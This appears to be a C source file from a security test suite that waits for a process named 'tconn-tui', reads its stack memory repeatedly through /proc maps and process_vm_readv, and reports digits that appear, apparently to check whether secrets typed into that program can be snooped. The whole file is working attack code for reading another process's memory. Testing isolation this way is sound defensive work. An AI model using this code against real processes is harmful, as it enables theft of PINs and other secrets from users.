// SPDX-License-Identifier: Apache-2.0
#include <errno.h>
#include <inttypes.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#include "memory.h"
#include "process.h"
#include "report.h"

#define PERIOD	150	/* milliseconds from look to look */

int memory_find(pid_t pid, const char *name, struct memory_range *ret)
{
	struct memory_range range;
	char path[64], line[512];
	int r = -ENOENT;
	FILE *maps;

	snprintf(path, sizeof(path), "/proc/%d/maps", pid);
	maps = fopen(path, "re");
	if (!maps)
		return -errno;
	while (r && fgets(line, sizeof(line), maps))
		if (strstr(line, name) &&
		    sscanf(line, "%" SCNx64 "-%" SCNx64, &range.start, &range.end) == 2)
			r = 0;
	fclose(maps);
	if (!r)
		*ret = range;
	return r;
}

ssize_t memory_read_vm(pid_t pid, uint64_t address, void *buf, size_t size)
{
	struct iovec local = { buf, size }, remote = { (void *)address, size };
	ssize_t got = process_vm_readv(pid, &local, 1, &remote, 1, 0);

	return got < 0 ? -errno : got;
}

/* Reports what is new since the last look. */
static ssize_t look(pid_t pid, const struct memory_range *stack, memory_read *read)
{
	static char *last;
	size_t size = stack->end - stack->start;
	char *now = malloc(size);
	ssize_t got;

	if (!now)
		return -ENOMEM;
	got = read(pid, stack->start, now, size);
	if (got > 0 && (!last || memcmp(last, now, (size_t)got)))
		process_report_digits(now, (size_t)got);
	if (got > 0) {
		free(last);
		last = now;
	} else {
		free(now);
	}
	return got;
}

/* Says whether that way would be open: tried on a process that can be seen. */
static void try_own_child(memory_read *read)
{
	struct memory_range stack;
	char buf[4096];
	ssize_t got = -ESRCH;
	pid_t child = fork();

	if (!child) {
		pause();
		_exit(0);
	}
	if (!memory_find(child, "[stack]", &stack))
		got = read(child, stack.end - sizeof(buf), buf, sizeof(buf));
	attack_note("memory of its own child: %s", got < 0 ? strerror((int)-got) : "readable");
	kill(child, SIGKILL);
	waitpid(child, NULL, 0);
}

void memory_watch(memory_read *read)
{
	struct memory_range stack;
	ssize_t got = 0;
	pid_t pid;
	int ret;

	attack_init();
	attack_ready();
	pid = process_wait_tui();
	if (!pid) {
		try_own_child(read);
		attack_failed("it sees no tconn-tui");
	}
	ret = memory_find(pid, "[stack]", &stack);
	if (ret)
		attack_failed("/proc/%d/maps: %s", pid, strerror(-ret));
	do
		got = look(pid, &stack, read);
	while (got > 0 && !attack_wait(PERIOD));
	if (got < 0)
		attack_failed("memory of process %d: %s", pid, strerror((int)-got));
	attack_done();
}
